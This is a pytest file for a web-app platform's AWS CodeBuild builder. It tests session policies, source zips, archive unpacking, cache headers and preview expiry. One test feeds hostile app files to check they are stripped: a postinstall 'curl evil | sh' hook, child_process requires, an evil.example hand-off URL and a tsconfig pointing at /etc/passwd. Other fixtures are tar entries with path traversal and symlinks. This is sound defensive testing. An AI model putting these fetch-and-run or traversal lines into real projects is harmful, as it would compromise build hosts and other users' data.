"""The CodeBuild builder, host side: S3, STS and CodeBuild on moto (botocore Stubber where
the exact CodeBuild request or a build's status matters: moto ignores overrides and always
succeeds). What a build's record carries (no link), where its source waits (under its own
role session's prefix), what its output POST may do (the session policy evaluated against
other apps' keys, its size bound), and how its one output archive is unpacked and
published. The in-box program itself runs for real in test_buildbox.py."""

from __future__ import annotations

import asyncio
import base64
import io
import json
import tarfile
import zipfile
from dataclasses import replace
from fnmatch import fnmatchcase
from typing import Any

import boto3
import pytest
from botocore.stub import ANY, Stubber

from zerocode.adapters.aws import build_handoff as handoff
from zerocode.adapters.aws.build_check import BuildCheckResult
from zerocode.adapters.aws.build_sources import CREDENTIAL_SECONDS, TOOLCHAIN_DIR
from zerocode.adapters.aws.codebuild_builder import BUILDSPEC, PREVIEW_TAG, CodeBuildBuilder
from zerocode.adapters.aws.s3_preview_covers import S3PreviewCovers
from zerocode.apps.records import App, CodeGenType
from zerocode.apps.workspace import Snapshot
from zerocode.publishing import toolchain
from zerocode.publishing.builds import (
    Build,
    BuildJob,
    BuildPurpose,
    BuildState,
    PreviewRetention,
    SiteMeta,
    new_build_id,
)

BUCKET = "zc-builds"
DATA_ROLE = "arn:aws:iam::123456789012:role/zc-build-data"
ROLE_ID = "AROAPROJECTROLE00001"  # the CodeBuild project role's unique id
RUNNER = "zc-project:1234"
MINE = f"{ROLE_ID}:AWSCodeBuild-1234"  # that run's session, as CodeBuild names it
PNG = handoff.PNG_MAGIC + b"\x00" * 64
SOURCE_FILES = {"package.json": b"{}", "index.html": b"<div id=app>", "src/main.js": b"x"}
# The toolchain's manifest, and the platform's TypeScript settings every build tree holds.
TOOLCHAIN_FILES = [
    *(f"{TOOLCHAIN_DIR}/{n}" for n in ("package-lock.json", "package.json")),
    toolchain.TSCONFIG,
]


@pytest.fixture
def s3(aws: None) -> Any:
    client = boto3.client("s3", region_name="us-east-1")
    client.create_bucket(Bucket=BUCKET)
    return client


def codebuild_client() -> Any:
    return boto3.client("codebuild", region_name="us-east-1")


def builder_for(codebuild: Any, s3: Any, **kw: Any) -> CodeBuildBuilder:
    return CodeBuildBuilder(
        codebuild,
        s3,
        "zc-project",
        BUCKET,
        sts=boto3.client("sts", region_name="us-east-1"),
        data_role_arn=DATA_ROLE,
        build_role_id=ROLE_ID,
        **kw,
    )


def job(
    kind: CodeGenType, files: dict[str, bytes], *, preview: bool = False, app_id: str = "app1"
) -> BuildJob:
    return BuildJob(
        app_id=app_id,
        build_id=new_build_id(),
        kind=kind,
        source=Snapshot.of(files),
        preview=preview,
    )


def keys(s3: Any, prefix: str = "") -> list[str]:
    return sorted(
        o["Key"] for o in s3.list_objects_v2(Bucket=BUCKET, Prefix=prefix).get("Contents", [])
    )


def watch(client: Any, operation: str) -> list[dict[str, Any]]:
    """The parameters of every call of ``operation`` on ``client``, and what it answered."""
    calls: list[dict[str, Any]] = []
    service = client.meta.service_model.service_name
    client.meta.events.register(
        f"before-parameter-build.{service}.{operation}",
        lambda params, **kw: calls.append({"params": dict(params)}),
    )
    client.meta.events.register(
        f"after-call.{service}.{operation}", lambda parsed, **kw: calls[-1].update(answer=parsed)
    )
    return calls


def started(builder: CodeBuildBuilder, build: BuildJob) -> dict[str, Any]:
    """Start ``build`` against a stubbed StartBuild; the exact request sent."""
    with Stubber(builder.codebuild) as stub:
        stub.add_response(
            "start_build",
            {"build": {"id": RUNNER}},
            {
                "projectName": "zc-project",
                "idempotencyToken": build.build_id,
                "sourceTypeOverride": "NO_SOURCE",
                "buildspecOverride": BUILDSPEC,
                "artifactsOverride": {"type": "NO_ARTIFACTS"},
                "environmentVariablesOverride": ANY,
            },
        )
        captured = watch(builder.codebuild, "StartBuild")
        assert builder.start(build) == RUNNER
        stub.assert_no_pending_responses()
    return dict(captured[0]["params"])


def zip_files(s3: Any, key: str) -> dict[str, bytes]:
    body = s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def as_list(value: Any) -> list[Any]:
    return value if isinstance(value, list) else [value]


def allows(policy: dict[str, Any], action: str, resource: str) -> bool:
    """A tiny IAM evaluator: some Allow statement matches the action and the resource (IAM
    wildcards as fnmatch), and no Deny statement does. Conditions (only the KMS statement
    has one) are not evaluated, which can only make this evaluator allow more."""

    def matches(statement: dict[str, Any]) -> bool:
        return any(fnmatchcase(action, a) for a in as_list(statement["Action"])) and any(
            fnmatchcase(resource, r) for r in as_list(statement["Resource"])
        )

    statements = policy["Statement"]
    return any(s["Effect"] == "Allow" and matches(s) for s in statements) and not any(
        s["Effect"] == "Deny" and matches(s) for s in statements
    )


def source_key(build: BuildJob) -> str:
    return f"sources/{MINE}/{build.app_id}/{build.build_id}.zip"


def post_policy(output: dict[str, Any]) -> dict[str, Any]:
    policy: dict[str, Any] = json.loads(base64.b64decode(output["fields"]["policy"]))
    return policy


LINKISH = ("http", "X-Amz", "Signature", "AWSAccessKeyId", "x-amz-")


def test_a_build_record_carries_no_link_and_its_source_waits_under_its_own_session(
    s3: Any,
) -> None:
    """The exact StartBuild request: six plain names, none a capability. The source goes
    under the run's own role session's prefix once CodeBuild has named the run; the zip
    carries the one capability: a POST of this build's output, bounded in size."""
    builder = builder_for(codebuild_client(), s3)
    assumed = watch(builder.sources.sts, "AssumeRole")
    vue = job(CodeGenType.VUE_PROJECT, SOURCE_FILES, preview=True)
    request = started(builder, vue)
    (call,) = assumed
    issued = call["answer"]["Credentials"]
    variables = {v["name"]: v for v in request["environmentVariablesOverride"]}
    assert {v["type"] for v in variables.values()} == {"PLAINTEXT"}
    values = {n: v["value"] for n, v in variables.items()}
    assert values == {
        "ZEROCODE_APP_ID": "app1",
        "ZEROCODE_BUILD_ID": vue.build_id,
        handoff.BUCKET_VARIABLE: BUCKET,
        "ZEROCODE_KIND": "vue_project",
        "ZEROCODE_PREVIEW": "1",
        "ZEROCODE_OWN_ORIGIN": "1",
    }
    text = json.dumps(request)
    assert not any(mark in text for mark in LINKISH), text
    assert issued["AccessKeyId"] not in text and issued["SessionToken"] not in text
    assert keys(s3, "sources/") == [source_key(vue)]
    # The source: the build tree, the toolchain, the picker, and the hand-off.
    files = zip_files(s3, source_key(vue))
    assert sorted(files) == sorted(
        [
            *TOOLCHAIN_FILES,
            "index.html",
            "package.json",
            "src/main.js",
            "vite.config.js",
            handoff.PICKER_IN_SOURCE,
            handoff.HANDOFF_FILE,
        ]
    )
    (output,) = json.loads(files[handoff.HANDOFF_FILE]).values()
    assert output["fields"]["key"] == f"staging/app1/{vue.build_id}.tar"
    assert output["fields"]["x-amz-credential"].startswith(issued["AccessKeyId"] + "/")
    # S3 holds the upload to this (moto does not check POST policies: the policy is what
    # is tested here).
    conditions = post_policy(output)["conditions"]
    assert ["content-length-range", 1, handoff.MAX_OUTPUT_BYTES] in conditions
    assert {"Content-Type": handoff.ARCHIVE_TYPE} in conditions
    assert issued["SecretAccessKey"] not in files[handoff.HANDOFF_FILE].decode()


def test_each_build_signs_with_a_session_for_itself_only(s3: Any) -> None:
    builder = builder_for(codebuild_client(), s3)
    assumed = watch(builder.sources.sts, "AssumeRole")
    first = job(CodeGenType.VUE_PROJECT, SOURCE_FILES)
    other = job(CodeGenType.HTML, {"index.html": b"<p>b"}, app_id="appB")
    for build in (first, other):
        started(builder, build)
    assert len(assumed) == 2
    for build, call in zip((first, other), assumed, strict=True):
        params = call["params"]
        assert params["RoleArn"] == DATA_ROLE
        assert params["RoleSessionName"] == f"zerocode-{build.build_id}"
        assert params["DurationSeconds"] == CREDENTIAL_SECONDS == 20 * 60
        assert json.loads(params["Policy"]) == handoff.session_policy(
            BUCKET, f"staging/{build.app_id}/{build.build_id}.tar"
        )
    assert assumed[0]["answer"]["Credentials"] != assumed[1]["answer"]["Credentials"]


def test_the_session_policy_denies_everything_but_the_builds_own_archive() -> None:
    mine, theirs, later = new_build_id(), new_build_id(), new_build_id()
    policy = handoff.session_policy(BUCKET, f"staging/appA/{mine}.tar")
    obj = f"arn:aws:s3:::{BUCKET}/"
    assert allows(policy, "s3:PutObject", f"{obj}staging/appA/{mine}.tar")
    denied = [
        ("s3:GetObject", f"sources/{MINE}/appA/{mine}.zip"),  # even its own source
        ("s3:DeleteObject", f"sources/{MINE}/appA/{mine}.zip"),
        ("s3:PutObject", f"staging/appB/{theirs}.tar"),  # app B's output
        ("s3:PutObject", f"builds/appB/{theirs}/index.html"),  # app B's site
        ("s3:PutObject", f"builds/appA/{mine}/index.html"),  # even its own site: unpacked
        ("s3:GetObject", f"staging/appA/{mine}.tar"),
        ("s3:PutObject", f"staging/appA/{later}.tar"),  # another build of the app
        ("s3:PutObject", f"checks/appA/{mine}.json"),
        ("s3:PutObject", "cache/npm/index"),
        ("s3:GetObject", "workspaces/appB/src/App.vue"),
    ]
    for action, key in denied:
        assert not allows(policy, action, obj + key), (action, key)
    assert not allows(policy, "s3:ListBucket", f"arn:aws:s3:::{BUCKET}")
    longer = handoff.session_policy(BUCKET, f"staging/app1/{mine}.tar")
    assert not allows(longer, "s3:PutObject", f"{obj}staging/app10/{mine}.tar")


def test_a_runs_source_is_readable_by_its_own_session_only(s3: Any) -> None:
    """The project role's source statement (infra/zerocode_infra/builds.py grants
    :data:`.build_handoff.OWN_SOURCES`) with ``${aws:userid}`` as IAM fills it in for a
    run's session: that run's source and nothing else; the key the platform writes is the
    one the box derives from its identity."""
    page = job(CodeGenType.HTML, {"index.html": b"x"})
    key = source_key(page)
    builder = builder_for(codebuild_client(), s3)
    assert builder.sources.key(RUNNER, page.app_id, page.build_id) == key
    assert handoff.run_of_identity(MINE) == "1234"
    assert handoff.run_of_identity(f"{ROLE_ID}:zerocode-{page.build_id}") is None

    def session(identity: str) -> dict[str, Any]:
        resource = f"arn:aws:s3:::{BUCKET}/{handoff.OWN_SOURCES}"
        resource = resource.replace("${aws:userid}", identity)
        action = ["s3:GetObject", "s3:DeleteObject"]
        return {"Statement": [{"Effect": "Allow", "Action": action, "Resource": resource}]}

    obj = f"arn:aws:s3:::{BUCKET}/"
    for action in ("s3:GetObject", "s3:DeleteObject"):
        assert allows(session(MINE), action, obj + key)
    other = f"{ROLE_ID}:AWSCodeBuild-5678"
    assert not allows(session(other), "s3:GetObject", obj + key)
    assert not allows(session(other[:-1]), "s3:GetObject", obj + key)  # a prefix of it
    assert not allows(session(MINE), "s3:PutObject", obj + key)
    assert not allows(session(MINE), "s3:GetObject", f"{obj}staging/app1/{page.build_id}.tar")


def test_a_source_that_cannot_be_put_stops_its_run(s3: Any) -> None:
    """The run is started before its source is put (CodeBuild names it only then): if the
    put fails, the run is stopped rather than left waiting for a source that never comes."""
    builder = builder_for(codebuild_client(), s3)
    builder.sources.bucket = "no-such-bucket"
    with Stubber(builder.codebuild) as stub:
        stub.add_response("start_build", {"build": {"id": RUNNER}}, None)
        stub.add_response("stop_build", {"build": {"id": RUNNER}}, {"id": RUNNER})
        with pytest.raises(Exception, match="NoSuchBucket"):
            builder.start(job(CodeGenType.HTML, {"index.html": b"x"}))
        stub.assert_no_pending_responses()


def test_a_build_without_the_data_role_is_refused_before_anything_is_uploaded(s3: Any) -> None:
    builder = CodeBuildBuilder(codebuild_client(), s3, "zc", BUCKET)
    with pytest.raises(RuntimeError, match="ZEROCODE_BUILD_DATA_ROLE_ARN, ZEROCODE_BUILD_ROLE_ID"):
        builder.start(job(CodeGenType.VUE_PROJECT, SOURCE_FILES))
    assert keys(s3) == []


def test_html_apps_build_in_codebuild_too_and_need_an_index(s3: Any) -> None:
    """An html app's build only copies, but it checks the page and takes the cover in the
    image's browser: so it runs there as well."""
    builder = builder_for(codebuild_client(), s3)
    model = {"zerocode.data.json": b'{"collections": {}}'}  # the platform's, never served
    page = job(CodeGenType.MULTI_FILE, {"index.html": b"<h1>Hi", "css/a.css": b"h1{}", **model})
    request = started(builder, page)
    variables = {v["name"]: v["value"] for v in request["environmentVariablesOverride"]}
    assert variables["ZEROCODE_KIND"] == "multi_file" and variables["ZEROCODE_PREVIEW"] == "0"
    files = zip_files(s3, source_key(page))
    assert sorted(files) == sorted(
        ["index.html", "css/a.css", handoff.HANDOFF_FILE, handoff.DATA_MODEL_IN_SOURCE]
    )  # the model only where the box takes it out, for the build's own checks
    assert files[handoff.DATA_MODEL_IN_SOURCE] == model["zerocode.data.json"]
    empty = builder.start(job(CodeGenType.HTML, {"about.html": b"x"}))
    assert not isinstance(empty, str) and not empty.ok and "index.html" in (empty.error or "")


def test_the_apps_own_build_configuration_never_reaches_the_zip(s3: Any) -> None:
    hostile = {
        "package.json": json.dumps(
            {"scripts": {"postinstall": "curl evil | sh"}, "dependencies": {"vue": "3.5.45"}}
        ).encode(),
        "package-lock.json": b"{}",
        "vite.config.js": b"require('child_process')",
        f"{TOOLCHAIN_DIR}/package.json": b'{"scripts": {"preinstall": "id"}}',
        handoff.HANDOFF_FILE: b'{"output": "https://evil.example/"}',
        "index.html": b"<div id=app>",
        "postcss.config.js": b"require('child_process')",
        ".env": b"VITE_SECRET=x",
        toolchain.TSCONFIG: b'{"extends": "/etc/passwd"}',
    }
    vue = job(CodeGenType.VUE_PROJECT, hostile)
    started(builder_for(codebuild_client(), s3), vue)
    files = zip_files(s3, source_key(vue))
    assert files["vite.config.js"] == toolchain.vite_config()
    assert {n: files[f"{TOOLCHAIN_DIR}/{n}"] for n in toolchain.manifest()} == toolchain.manifest()
    assert "package-lock.json" not in files and "scripts" not in json.loads(files["package.json"])
    assert not {"postcss.config.js", ".env"} & set(files)
    assert "evil" not in files[handoff.HANDOFF_FILE].decode()
    page = job(CodeGenType.HTML, {"index.html": b"x", handoff.HANDOFF_FILE: b"{}"})
    started(builder_for(codebuild_client(), s3), page)
    assert json.loads(zip_files(s3, source_key(page))[handoff.HANDOFF_FILE])


def archive(entries: dict[str, bytes | None], links: dict[str, str] | None = None) -> bytes:
    """A tar as a build hands it back: ``out/`` and the given files (None: a directory);
    ``links`` adds symbolic links (name -> target)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        root = tarfile.TarInfo("out")
        root.type = tarfile.DIRTYPE
        tar.addfile(root)
        for name, data in entries.items():
            info = tarfile.TarInfo(f"out/{name}")
            if data is None:
                info.type = tarfile.DIRTYPE
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(f"out/{name}")
            info.type, info.linkname = tarfile.SYMTYPE, target
            tar.addfile(info)
    return buffer.getvalue()


def finished(
    builder: CodeBuildBuilder, build_id: str, status: str, *, preview: bool = False, **extra: Any
) -> Any:
    with Stubber(builder.codebuild) as stub:
        stub.add_response(
            "batch_get_builds",
            {"builds": [{"id": "zc:1", "buildStatus": status, **extra}]},
            {"ids": ["zc:1"]},
        )
        return builder.outcome("app1", build_id, "zc:1", preview=preview)


def hand_back(s3: Any, build_id: str, data: bytes) -> None:
    s3.put_object(Bucket=BUCKET, Key=f"staging/app1/{build_id}.tar", Body=data)


SITE = {
    "dist": None,
    "dist/index.html": b"<div id=app></div>",
    "dist/assets": None,
    "dist/assets/index-1.js": b"console.log(1)",
    "dist/__zerocode": None,
    "dist/__zerocode/cover.png": b"the app's own file here is never published",
}


def test_a_succeeded_build_is_unpacked_into_its_prefix_index_last(s3: Any) -> None:
    builder = builder_for(codebuild_client(), s3)
    bid = new_build_id()
    check = {"checked": True, "problems": ["uncaught TypeError: x is undefined"], "extra": 1}
    hand_back(
        s3,
        bid,
        archive(
            {
                **SITE,
                "check.json": json.dumps(check).encode(),
                "cover.png": PNG,
                "log.txt": b"vite v8 building for production...",
            }
        ),
    )
    puts = watch(s3, "PutObject")
    assert finished(builder, bid, "IN_PROGRESS") is None
    assert puts == []  # nothing published while it runs
    done = finished(builder, bid, "SUCCEEDED")
    prefix = f"builds/app1/{bid}/"
    assert done.ok and done.output == f"s3://{BUCKET}/{prefix}"
    assert "vite v8 building" in done.log_tail
    assert keys(s3) == [
        f"{prefix}__zerocode/cover.png",
        f"{prefix}assets/index-1.js",
        f"{prefix}index.html",
        f"checks/app1/{bid}.json",
    ]
    site_puts = [c["params"]["Key"] for c in puts if c["params"]["Key"].startswith(prefix)]
    assert site_puts[-1] == f"{prefix}index.html"
    cover = s3.get_object(Bucket=BUCKET, Key=f"{prefix}__zerocode/cover.png")["Body"].read()
    assert cover == PNG  # the build's screenshot, not the app's file of that name
    assert builder.cover("app1", bid) == handoff.COVER_PATH
    result = BuildCheckResult(s3, BUCKET).read("app1", bid)
    assert result == ["uncaught TypeError: x is undefined"]
    # A second finisher (the event after the poll) finds it done.
    again = finished(builder, bid, "SUCCEEDED")
    assert again.ok and again.output == done.output


def test_a_previews_cover_is_kept_privately_not_with_its_site(s3: Any) -> None:
    """Issue 26, point 7: a preview's screenshot is its app's private cover. It goes to
    preview-covers/, which CloudFront cannot read, never into builds/ with the site."""
    builder = builder_for(codebuild_client(), s3)
    bid = new_build_id()
    hand_back(s3, bid, archive({**SITE, "check.json": b"{}", "cover.png": PNG}))
    done = finished(builder, bid, "SUCCEEDED", preview=True)
    prefix = f"builds/app1/{bid}/"
    assert done.ok
    assert keys(s3) == [
        f"{prefix}assets/index-1.js",
        f"{prefix}index.html",
        f"checks/app1/{bid}.json",
        f"preview-covers/app1/{bid}.png",
    ]
    assert builder.cover("app1", bid) is None  # nothing in the site
    assert S3PreviewCovers(s3, BUCKET).get("app1", bid) == PNG
    # Not a PNG: no cover kept at all.
    other = new_build_id()
    hand_back(s3, other, archive({**SITE, "check.json": b"{}", "cover.png": b"GIF89a"}))
    assert finished(builder, other, "SUCCEEDED", preview=True).ok
    assert not S3PreviewCovers(s3, BUCKET).exists("app1", other)


def tags(s3: Any, key: str) -> dict[str, str]:
    found = s3.get_object_tagging(Bucket=BUCKET, Key=key)["TagSet"]
    return {t["Key"]: t["Value"] for t in found}


def test_a_previews_outputs_are_tagged_to_expire_and_a_deploys_never(s3: Any) -> None:
    """Issue 27, point 4: the builds bucket's lifecycle rule expires objects tagged
    PREVIEW_TAG (infra storage.py). A preview build's site and check carry it; a deploy
    build's carry no tag at all, so a published build and every rollback target stay. The
    preview's private cover is not tagged either: the app keeps it until a newer one."""
    builder = builder_for(codebuild_client(), s3)
    preview, deploy = new_build_id(), new_build_id()
    for bid in (preview, deploy):
        hand_back(s3, bid, archive({**SITE, "check.json": b"{}", "cover.png": PNG}))
    assert finished(builder, preview, "SUCCEEDED", preview=True).ok
    assert finished(builder, deploy, "SUCCEEDED", preview=False).ok
    expiring = {"zerocode:purpose": "preview"}
    assert dict([PREVIEW_TAG]) == expiring
    previews = [*keys(s3, f"builds/app1/{preview}/"), f"checks/app1/{preview}.json"]
    assert len(previews) == 3
    for key in previews:
        assert tags(s3, key) == expiring, key
    assert tags(s3, f"preview-covers/app1/{preview}.png") == {}
    deploys = [*keys(s3, f"builds/app1/{deploy}/"), f"checks/app1/{deploy}.json"]
    assert f"builds/app1/{deploy}/__zerocode/cover.png" in deploys and len(deploys) == 4
    for key in deploys:
        assert tags(s3, key) == {}, key


def test_a_sites_objects_say_how_long_a_browser_may_keep_them(s3: Any) -> None:
    """Issue 44: on AWS, as locally (publishing/encodings.py ``site_cache``), a deploy's
    hashed script is kept a year, its page and anything else revalidated, and a preview's
    objects never kept; CloudFront compresses them (infra: the sites' cache policy)."""
    builder = builder_for(codebuild_client(), s3)
    site = {**SITE, "dist/assets/index-B3x9_kQz.js": b"console.log(2)"}
    preview, deploy = new_build_id(), new_build_id()
    for bid in (preview, deploy):
        hand_back(s3, bid, archive({**site, "check.json": b"{}", "cover.png": PNG}))
    assert finished(builder, preview, "SUCCEEDED", preview=True).ok
    assert finished(builder, deploy, "SUCCEEDED", preview=False).ok

    def kept(bid: str, path: str) -> str:
        head = s3.head_object(Bucket=BUCKET, Key=f"builds/app1/{bid}/{path}")
        return str(head["CacheControl"])

    assert kept(deploy, "assets/index-B3x9_kQz.js") == "public, max-age=31536000, immutable"
    assert kept(deploy, "index.html") == "no-cache"
    assert kept(deploy, "assets/index-1.js") == "no-cache"  # not a name Vite gives
    for path in ("index.html", "assets/index-B3x9_kQz.js"):
        assert kept(preview, path) == "no-store", path


def test_a_published_page_gets_what_it_lacks_on_aws_too(s3: Any) -> None:
    """Issue 44, points 1 and 3: the API completes the box's page before any object is put
    (publishing/site_head.py), as the local builder does: meta tags, icons, robots.txt and
    the sitemap at the site's address; a Vue page's <base> first in its head; never a tag
    or file the app has."""
    builder = builder_for(codebuild_client(), s3)
    page = b"<!doctype html><html><head><title>Own</title></head><body><div id=app></div>"
    site = {**SITE, "dist/index.html": page, "dist/robots.txt": b"User-agent: *\n"}
    bid = new_build_id()
    hand_back(s3, bid, archive({**site, "check.json": b"{}", "cover.png": PNG}))
    meta = SiteMeta("Bird Log", "A log of birds", url="https://k3y.apps.example/")
    with Stubber(builder.codebuild) as stub:
        stub.add_response(
            "batch_get_builds",
            {"builds": [{"id": "zc:1", "buildStatus": "SUCCEEDED"}]},
            {"ids": ["zc:1"]},
        )
        done = builder.outcome("app1", bid, "zc:1", site=meta, vue=True)
    assert done is not None and done.ok and "added to the page:" in done.log_tail

    def body(path: str) -> bytes:
        return bytes(s3.get_object(Bucket=BUCKET, Key=f"builds/app1/{bid}/{path}")["Body"].read())

    html = body("index.html").decode()
    assert html.startswith('<!doctype html><html lang="en"><head><base href="/">'), html[:120]
    assert '<meta name="description" content="A log of birds">' in html
    assert '<meta property="og:url" content="https://k3y.apps.example/">' in html
    assert "<title>Own</title>" in html and html.count("<title>") == 1
    assert body("favicon.ico") and body("site.webmanifest") and body("icon-512.png")
    assert body("robots.txt") == b"User-agent: *\n"  # the app's own
    assert b"<loc>https://k3y.apps.example/</loc>" in body("sitemap.xml")


def test_the_shown_preview_stops_expiring_and_the_one_it_replaced_expires_again(
    s3: Any,
) -> None:
    """A preview pointer never names an output that can expire, whatever sweeps the
    pointers: the preview's build is untagged when it is shown, the build it replaced is
    tagged again (a check that was never written is no error)."""
    builder = builder_for(codebuild_client(), s3)
    first, second = new_build_id(), new_build_id()
    for bid in (first, second):
        hand_back(s3, bid, archive({**SITE, "check.json": b"{}"}))
        assert finished(builder, bid, "SUCCEEDED", preview=True).ok
    s3.delete_object(Bucket=BUCKET, Key=f"checks/app1/{first}.json")
    expiring = {"zerocode:purpose": "preview"}
    builder.retain_preview("app1", first, None)
    for key in keys(s3, f"builds/app1/{first}/"):
        assert tags(s3, key) == {}, key
    builder.retain_preview("app1", second, first)
    for key in [*keys(s3, f"builds/app1/{second}/"), f"checks/app1/{second}.json"]:
        assert tags(s3, key) == {}, key
    for key in keys(s3, f"builds/app1/{first}/"):
        assert tags(s3, key) == expiring, key
    assert isinstance(builder, PreviewRetention)


def test_a_failed_build_reports_the_builds_own_log_and_publishes_nothing(s3: Any) -> None:
    builder = builder_for(codebuild_client(), s3)
    bid = new_build_id()
    log = b"[vite:vue] src/App.vue: Element is missing end tag.\nzerocode: vite build failed"
    hand_back(s3, bid, archive({"dist": None, "log.txt": log}))
    done = finished(
        builder,
        bid,
        "FAILED",
        logs={"deepLink": "https://logs/x"},
        phases=[{"phaseType": "BUILD", "phaseStatus": "FAILED"}],
    )
    assert not done.ok and "FAILED" in (done.error or "")
    assert "Element is missing end tag" in done.log_tail and "https://logs/x" in done.log_tail
    assert keys(s3, "builds/") == [] and keys(s3, "checks/") == []


@pytest.mark.parametrize(
    ("entries", "links", "why"),
    [
        ({"dist": None, "dist/index.html": b"x"}, {"dist/a": "/workspaces/appB/x"}, "link"),
        ({"dist": None}, {"dist/index.html": "../../../builds/appB/b/index.html"}, "link"),
        ({"dist": None, "dist/index.html": b"x", "dist/../../x": b"y"}, None, "'..'"),
    ],
)
def test_an_output_that_breaks_a_rule_publishes_nothing(
    s3: Any, entries: dict[str, bytes | None], links: dict[str, str] | None, why: str
) -> None:
    builder = builder_for(codebuild_client(), s3)
    bid = new_build_id()
    hand_back(s3, bid, archive(entries, links))
    done = finished(builder, bid, "SUCCEEDED")
    assert not done.ok and why in (done.error or "")
    assert keys(s3, "builds/") == []


def test_a_success_without_a_site_is_a_failure(s3: Any) -> None:
    builder = builder_for(codebuild_client(), s3)
    missing = finished(builder, new_build_id(), "SUCCEEDED")
    assert not missing.ok and "no output" in (missing.error or "")
    bid = new_build_id()
    hand_back(s3, bid, archive({"dist": None, "check.json": b"{}"}))
    empty = finished(builder, bid, "SUCCEEDED")
    assert not empty.ok and "no index.html" in (empty.error or "")
    assert keys(s3, "builds/") == []


@pytest.mark.parametrize(
    "check",
    [
        b"not json",
        b'{"checked": false, "problems": ["x"]}',
        b'{"checked": true, "problems": "x"}',
        b'{"checked": true, "problems": [1]}',
        b"[" * 70_000,
    ],
)
def test_a_malformed_check_counts_as_not_checked(s3: Any, check: bytes) -> None:
    builder = builder_for(codebuild_client(), s3)
    bid = new_build_id()
    hand_back(s3, bid, archive({**SITE, "check.json": check, "cover.png": b"GIF89a"}))
    assert finished(builder, bid, "SUCCEEDED").ok
    assert BuildCheckResult(s3, BUCKET).read("app1", bid) is None
    assert builder.cover("app1", bid) is None  # not a PNG: no cover


def test_the_runtime_check_port_reads_only_succeeded_builds(s3: Any) -> None:
    bid = new_build_id()
    s3.put_object(
        Bucket=BUCKET,
        Key=f"checks/app1/{bid}.json",
        Body=b'{"checked": true, "problems": ["console.error: boom"]}',
    )
    check = BuildCheckResult(s3, BUCKET)
    app = App(
        id="app1", owner="u1", name="x", code_gen_type=CodeGenType.VUE_PROJECT, init_prompt="x"
    )
    build = Build(
        id=bid,
        app_id="app1",
        purpose=BuildPurpose.PREVIEW,
        kind=CodeGenType.VUE_PROJECT,
        source_digest="d",
        state=BuildState.SUCCEEDED,
    )
    assert asyncio.run(check.check(app, build)) == ["console.error: boom"]
    failed = replace(build, state=BuildState.FAILED)
    assert asyncio.run(check.check(app, failed)) is None
    assert check.read("app1", new_build_id()) is None  # no result: nothing to report


def test_build_polls_until_codebuild_finishes(s3: Any) -> None:
    naps: list[float] = []

    async def nap(seconds: float) -> None:
        naps.append(seconds)

    builder = builder_for(codebuild_client(), s3, poll_seconds=2, sleep=nap)
    vue = job(CodeGenType.VUE_PROJECT, {"package.json": b"{}"})
    with Stubber(builder.codebuild) as stub:
        stub.add_response("start_build", {"build": {"id": "zc:9"}}, None)
        for status in ("IN_PROGRESS", "IN_PROGRESS", "STOPPED"):
            stub.add_response(
                "batch_get_builds",
                {"builds": [{"id": "zc:9", "buildStatus": status}]},
                {"ids": ["zc:9"]},
            )
        outcome = asyncio.run(builder.build(vue))
    assert not outcome.ok and "STOPPED" in (outcome.error or "") and naps == [2, 2, 2]


def test_delete_app_removes_every_prefix_of_that_app_only(s3: Any) -> None:
    builder = CodeBuildBuilder(codebuild_client(), s3, "zc", BUCKET)
    for key in (
        "builds/app1/b1/index.html",
        f"sources/{MINE}/app1/b1.zip",
        "staging/app1/b1.tar",
        "checks/app1/b1.json",
        "builds/app10/b1/index.html",
        "checks/app10/b1.json",
        f"sources/{MINE}/app10/b2.zip",
        "sources/app1/b1.zip",  # not a run's source (never written so): left
    ):
        s3.put_object(Bucket=BUCKET, Key=key, Body=b"x")
    assert builder.delete_app("app1") == 4
    assert keys(s3) == [
        "builds/app10/b1/index.html",
        "checks/app10/b1.json",
        f"sources/{MINE}/app10/b2.zip",
        "sources/app1/b1.zip",
    ]
